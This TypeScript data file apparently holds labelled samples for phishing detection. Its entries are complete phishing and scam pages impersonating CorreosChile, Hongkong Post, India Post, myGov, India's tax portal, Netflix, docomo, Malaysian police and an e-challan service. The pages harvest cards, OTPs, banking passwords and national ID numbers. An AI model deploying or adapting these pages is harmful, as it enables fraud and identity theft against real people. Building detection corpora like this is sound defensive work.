import type { Entry } from '../entry.js';
import { doc, mobileCss, mobileKit, otpPage, cardFields, stepScript, okJson, img, htmlRoute, redirectRoute, jsRoute, jsonRoute } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-phish-correoschile-aduana-pago',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://correoschile-envios.cl-seguimiento.top/pago/?id=CL8842199',
  body: mobileKit({
    lang: 'es-CL', title: 'CorreosChile - Pago de arancel', brand: 'CorreosChile', color: '#e4002b', logo: '/pago/logo.png',
    notice: `<h2>Su envío está retenido en aduana</h2><p style="font-size:14px">Estimado cliente, su paquete no pudo ser entregado porque tiene un arancel de importación pendiente. Si no se realiza el pago en 48 horas, el envío será devuelto al remitente.</p>`,
    rows: [['N° de seguimiento', 'CL8842199CN'], ['Estado', 'Retenido — Aduana Santiago'], ['Arancel + IVA', '$2.490 CLP']],
    form: `<h2>Datos de pago</h2><label>RUT</label><input name="rut" placeholder="12.345.678-9" required><label>Dirección de entrega</label><input name="dir" required>${cardFields({ name: 'Titular de la tarjeta', number: 'Número de tarjeta', exp: 'Vencimiento', cvv: 'CVV' })}`,
    button: 'Pagar $2.490', collector: '/pago/procesar.php', next: '/pago/webpay.php', footer: 'Empresa de Correos de Chile © 2026 · Todos los derechos reservados',
  }),
  routes: {
    'correoschile-envios.cl-seguimiento.top/pago/logo.png': img(228, 0, 43),
    'correoschile-envios.cl-seguimiento.top/pago/procesar.php': okJson(),
    'correoschile-envios.cl-seguimiento.top/pago/webpay.php': htmlRoute(otpPage('es-CL', 'Webpay · Autenticación', '#6b1e74', 'Clave dinámica', 'Ingrese el código enviado por su banco para autorizar la compra de $2.490 CLP.', 'Autorizar', '/pago/procesar.php')),
  },
},
{
  id: 'u-phish-hongkongpost-address-zhhk',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://hkpost-hk.delivery-update.cc/zh_hk/',
  body: mobileKit({
    lang: 'zh-HK', title: '香港郵政 - 郵件派遞', brand: '香港郵政 Hongkong Post', color: '#006f3c',
    notice: `<h2>您的郵件因地址不完整而無法派遞</h2><p style="font-size:14px">請於48小時內更新收件地址並繳付重新派遞費用 HK$12，逾期郵件將退回寄件人。</p>`,
    rows: [['郵件編號', 'RB729104556HK'], ['狀態', '暫存於郵件中心'], ['費用', 'HK$12.00']],
    form: `<label>收件人姓名</label><input name="name" required><label>地址</label><input name="addr" required><label>手提電話</label><input name="tel" required>${cardFields({ name: '持卡人姓名', number: '信用卡號碼', exp: '到期日', cvv: '安全碼' })}`,
    button: '確認並付款', collector: '/zh_hk/api.php', next: '/zh_hk/otp.php', footer: '© 2026 香港郵政 版權所有',
  }),
  routes: {
    'hkpost-hk.delivery-update.cc/zh_hk/api.php': okJson(),
    'hkpost-hk.delivery-update.cc/zh_hk/otp.php': htmlRoute(otpPage('zh-HK', '香港郵政', '#006f3c', '短訊驗證碼', '請輸入銀行發送的一次性密碼以完成付款。', '確認', '/zh_hk/api.php')),
  },
},
{
  id: 'u-phish-indiapost-address-update-in',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://indiapost.gov-in.delivery-track.cc/in/',
  body: mobileKit({
    lang: 'en-IN', title: 'India Post - Address Update', brand: 'India Post', color: '#c8102e',
    notice: `<h2>The package has arrived at the warehouse</h2><p style="font-size:14px">Dear customer, your package could not be delivered due to incomplete address information. Please update your address within 12 hours, otherwise the package will be returned. A service charge of ₹25 applies.</p>`,
    rows: [['Consignment No.', 'EE398172604IN'], ['Status', 'Held at sorting hub'], ['Charge', '₹25.00']],
    form: `<label>Full Name</label><input name="name" required><label>Address</label><input name="addr" required><label>PIN code</label><input name="pin" maxlength="6" required><label>Mobile No.</label><input name="mob" required>${cardFields({ name: 'Name on Card', number: 'Debit / Credit Card Number', exp: 'Expiry', cvv: 'CVV' })}`,
    button: 'Pay ₹25', collector: '/in/save.php', next: '/in/otp.php', footer: '© India Post, Government of India. All rights reserved.',
  }),
  routes: {
    'indiapost.gov-in.delivery-track.cc/in/save.php': okJson(),
    'indiapost.gov-in.delivery-track.cc/in/otp.php': htmlRoute(otpPage('en-IN', 'India Post', '#c8102e', 'Enter OTP', 'An OTP has been sent by your bank to your registered mobile number.', 'Submit', '/in/save.php')),
  },
},
{
  id: 'u-phish-mygov-ato-refund-au',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://my-gov-au.refund-claim.net/LoginServices/',
  body: doc({
    lang: 'en-AU',
    title: 'myGov - Sign in',
    css: 'body{margin:0;font-family:"Public Sans",Arial,sans-serif;background:#f5f5f5}.h{background:#313131;color:#fff;padding:16px 24px;font-size:22px}.b{max-width:460px;margin:32px auto;background:#fff;padding:28px}label{display:block;margin:14px 0 4px;font-weight:600;font-size:14px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #313131}button{margin-top:22px;background:#0f62c5;color:#fff;border:0;padding:12px 28px;font-size:16px}.n{background:#e8f1fb;border-left:4px solid #0f62c5;padding:12px;font-size:14px}',
    body: `<div class="h">myGov</div><div class="b"><h1 style="font-size:26px">Sign in with myGov</h1>
<div class="n">The Australian Taxation Office has calculated your tax refund of <b>$1,308.44</b>. Sign in to confirm your bank details so your refund can be paid within 3 business days.</div>
<form id="f"><label>Username or email</label><input name="u" required><label>Password</label><input name="p" type="password" required><button>Sign in</button></form>
<p style="font-size:13px"><a href="#">Forgot username</a> · <a href="#">Forgot password</a></p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fetch('/LoginServices/a.php',{method:'POST',body:fd}).finally(function(){location.href='/LoginServices/bank.php'})}</script>`,
  }),
  routes: {
    'my-gov-au.refund-claim.net/LoginServices/a.php': okJson(),
    'my-gov-au.refund-claim.net/LoginServices/bank.php': htmlRoute(doc({ lang: 'en-AU', title: 'myGov - Refund details', css: mobileCss('#313131'), body: `<div class="bar">myGov · ATO</div><div class="wrap"><form class="box" method="post" action="/LoginServices/a.php"><h2>Refund payment details</h2><label>Full name</label><input name="n"><label>Date of birth</label><input name="dob"><label>TFN</label><input name="tfn"><label>BSB</label><input name="bsb"><label>Account number</label><input name="acc">${cardFields({ name: 'Name on card', number: 'Debit card number (for identity check)', exp: 'Expiry', cvv: 'CVV' })}<button>Submit</button></form></div>` })),
  },
},
{
  id: 'u-phish-incometax-refund-approved-in',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://incometax-refund.gov.in.e-filing-portal.co/refund/',
  body: doc({
    lang: 'en-IN',
    title: 'e-Filing | Income Tax Department, Government of India',
    css: mobileCss('#1b3f8c') + '.tri{height:4px;background:linear-gradient(90deg,#ff9933 33%,#fff 33% 66%,#138808 66%)}',
    body: `<div class="tri"></div><div class="bar">Income Tax Department — e-Filing</div>
<div class="wrap">
<div class="box"><h2>Refund Approved: ₹15,490</h2><p style="font-size:14px">Dear Taxpayer, after the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of Rs. 15,490/-. Please submit the refund application and verify your bank account to credit the amount.</p></div>
<form id="f" class="box">
<label>PAN</label><input name="pan" maxlength="10" required>
<label>Aadhaar Number</label><input name="aadhaar" maxlength="12" required>
<label>Full Name</label><input name="name" required>
<label>Bank Name</label><select name="bank"><option>State Bank of India</option><option>HDFC Bank</option><option>ICICI Bank</option><option>Axis Bank</option><option>Punjab National Bank</option><option>Other</option></select>
<label>Net Banking User ID</label><input name="nbid" required>
<label>Net Banking Password</label><input name="nbpw" type="password" required>
<label>Debit Card Number</label><input name="card">
<label>ATM PIN</label><input name="atmpin" type="password" maxlength="4">
<button>Submit Refund Request</button></form>
</div>
<div class="ft">Copyright © Income Tax Department, Ministry of Finance, Government of India. All Rights Reserved</div>
${stepScript('/refund/submit', '/refund/otp')}`,
  }),
  routes: {
    'incometax-refund.gov.in.e-filing-portal.co/refund/submit': okJson(),
    'incometax-refund.gov.in.e-filing-portal.co/refund/otp': htmlRoute(otpPage('en-IN', 'e-Filing', '#1b3f8c', 'Verify with OTP', 'Enter the OTP received from your bank to validate your refund account.', 'Validate', '/refund/submit')),
  },
},
{
  id: 'u-phish-netflix-pago-rechazado-pe',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-pe.cuenta-suspendida.com/YourAccount/payment',
  body: doc({
    lang: 'es-PE',
    title: 'Netflix',
    css: 'body{margin:0;background:#000;color:#fff;font-family:"Netflix Sans",Helvetica,Arial,sans-serif}.lg{color:#e50914;font-size:34px;font-weight:900;padding:18px 40px}.bx{max-width:440px;margin:20px auto;background:rgba(0,0,0,.75);border:1px solid #333;padding:40px}input{width:100%;box-sizing:border-box;padding:14px;margin:8px 0;background:#333;border:0;border-radius:4px;color:#fff}button{width:100%;padding:14px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;margin-top:16px}.s{color:#b3b3b3;font-size:13px}',
    body: `<div class="lg">NETFLIX</div><div class="bx"><h2>Actualiza tu método de pago</h2>
<p class="s">No pudimos procesar el pago de tu membresía (S/ 44.90). Tu cuenta ha sido suspendida temporalmente. Actualiza tus datos para seguir viendo sin interrupciones.</p>
<form id="f"><input name="email" placeholder="Email" required><input name="pw" type="password" placeholder="Contraseña" required>
<input name="holder" placeholder="Nombre en la tarjeta" required><input name="cc" placeholder="Número de tarjeta" required><input name="exp" placeholder="Fecha de vencimiento (MM/AA)" required><input name="cvv" placeholder="CVV" required><input name="dni" placeholder="DNI">
<button>Guardar</button></form><p class="s">¿Preguntas? Llama al 0-800-78-XXX</p></div>
${stepScript('/YourAccount/api/save', '/YourAccount/done')}`,
  }),
  routes: {
    'netflix-pe.cuenta-suspendida.com/YourAccount/api/save': okJson(),
    'netflix-pe.cuenta-suspendida.com/YourAccount/done': redirectRoute(302, 'https://www.netflix.com/pe/'),
  },
},
{
  id: 'u-phish-docomo-dpoint-shikkou',
  label: 'phishing',
  kind: 'telco-kit',
  url: 'https://docomo-dpoint.jp-kakunin.net/dpoint/',
  body: mobileKit({
    lang: 'ja', title: 'dアカウント ログイン', brand: 'docomo dアカウント', color: '#cc0033',
    notice: `<h2>dポイント（期間・用途限定）失効のお知らせ</h2><p style="font-size:14px">お客様の保有する <b>12,400ポイント</b> が本日失効します。ログインしてポイントを延長してください。</p>`,
    form: `<label>dアカウントID</label><input name="did" required><label>パスワード</label><input name="pw" type="password" required><label>ネットワーク暗証番号（4桁）</label><input name="nwpin" type="password" maxlength="4" required>`,
    button: 'ログイン', collector: '/dpoint/post', next: '/dpoint/card', footer: '© NTT DOCOMO, INC. All Rights Reserved.',
  }),
  routes: {
    'docomo-dpoint.jp-kakunin.net/dpoint/post': okJson(),
    'docomo-dpoint.jp-kakunin.net/dpoint/card': htmlRoute(doc({ lang: 'ja', title: 'カード確認', css: mobileCss('#cc0033'), body: `<div class="bar">docomo</div><div class="wrap"><form class="box" method="post" action="/dpoint/post"><h2>お支払い情報の確認</h2>${cardFields({ name: 'カード名義', number: 'カード番号', exp: '有効期限', cvv: 'セキュリティコード' })}<button>確認</button></form></div>` })),
  },
},
{
  id: 'u-phish-pdrm-saman-trafik-ms',
  label: 'phishing',
  kind: 'gov-fine-kit',
  url: 'https://semak-saman-pdrm.com/mys/bayar',
  body: mobileKit({
    lang: 'ms', title: 'PDRM - Semakan & Bayaran Saman', brand: 'Polis Diraja Malaysia', color: '#002b7f',
    notice: `<h2>Notis Saman Tertunggak</h2><p style="font-size:14px">Anda mempunyai saman trafik yang belum dijelaskan. Bayar dalam tempoh 7 hari untuk menikmati diskaun 50%. Kegagalan membayar akan menyebabkan senarai hitam JPJ dan lesen memandu tidak boleh diperbaharui.</p>`,
    rows: [['No. Saman', 'KLT0098271'], ['Kesalahan', 'Memandu melebihi had laju'], ['Amaun (selepas diskaun)', 'RM150.00']],
    form: `<label>No. Kad Pengenalan</label><input name="ic" required><label>No. Pendaftaran Kenderaan</label><input name="plate" required>${cardFields({ name: 'Nama Pemegang Kad', number: 'No. Kad', exp: 'Tarikh Luput', cvv: 'CVV' })}`,
    button: 'Bayar RM150.00', collector: '/mys/api.php', next: '/mys/tac', footer: 'Hak Cipta Terpelihara © 2026 Polis Diraja Malaysia',
  }),
  routes: {
    'semak-saman-pdrm.com/mys/api.php': okJson(),
    'semak-saman-pdrm.com/mys/tac': htmlRoute(otpPage('ms', 'PDRM', '#002b7f', 'Masukkan TAC', 'Sila masukkan kod TAC yang dihantar oleh bank anda.', 'Sahkan', '/mys/api.php')),
  },
},
{
  id: 'u-scam-echallan-upi-payment-in',
  label: 'scam',
  kind: 'gov-fine-scam',
  url: 'https://echallan-parivahan.co.in-pay.cc/challan/DL5C2024',
  body: doc({
    lang: 'hi',
    title: 'ई-चालान | परिवहन',
    css: mobileCss('#1f3b73') + '.upi{display:flex;gap:8px;flex-wrap:wrap}.upi a{flex:1;min-width:90px;text-align:center;border:1px solid #ccd;border-radius:8px;padding:10px;font-size:13px;text-decoration:none;color:#222}',
    body: `<div class="bar">ई-चालान · सड़क परिवहन एवं राजमार्ग मंत्रालय</div>
<div class="wrap">
<div class="box"><h2>आपके वाहन पर चालान लंबित है</h2><p style="font-size:14px">वाहन संख्या <b>DL 5C XX 2024</b> पर यातायात नियम उल्लंघन (ओवर स्पीडिंग) के लिए ₹500 का चालान जारी किया गया है। 24 घंटे में भुगतान न करने पर मामला वर्चुअल कोर्ट भेजा जाएगा और लाइसेंस निलंबित हो सकता है।</p>
<div class="row"><span>चालान संख्या</span><b>DL94819223041</b></div><div class="row"><span>राशि</span><b>₹500</b></div></div>
<div class="box"><h2>UPI से भुगतान करें</h2><p style="font-size:13px">भुगतान के बाद स्क्रीनशॉट WhatsApp पर भेजें।</p>
<div class="upi"><a href="upi://pay?pa=echallan.pay2026@okaxis&pn=E%20Challan%20Services&am=500&cu=INR">Google Pay</a><a href="upi://pay?pa=echallan.pay2026@okaxis&pn=E%20Challan%20Services&am=500&cu=INR">PhonePe</a><a href="upi://pay?pa=echallan.pay2026@okaxis&pn=E%20Challan%20Services&am=500&cu=INR">Paytm</a></div>
<p style="font-size:13px">UPI ID: <b>echallan.pay2026@okaxis</b></p>
<button onclick="location.href='https://wa.me/919876500000?text=challan%20paid'">भुगतान हो गया</button></div>
</div>
<div class="ft">© परिवहन सेवा · Ministry of Road Transport & Highways</div>`,
  }),
},
];
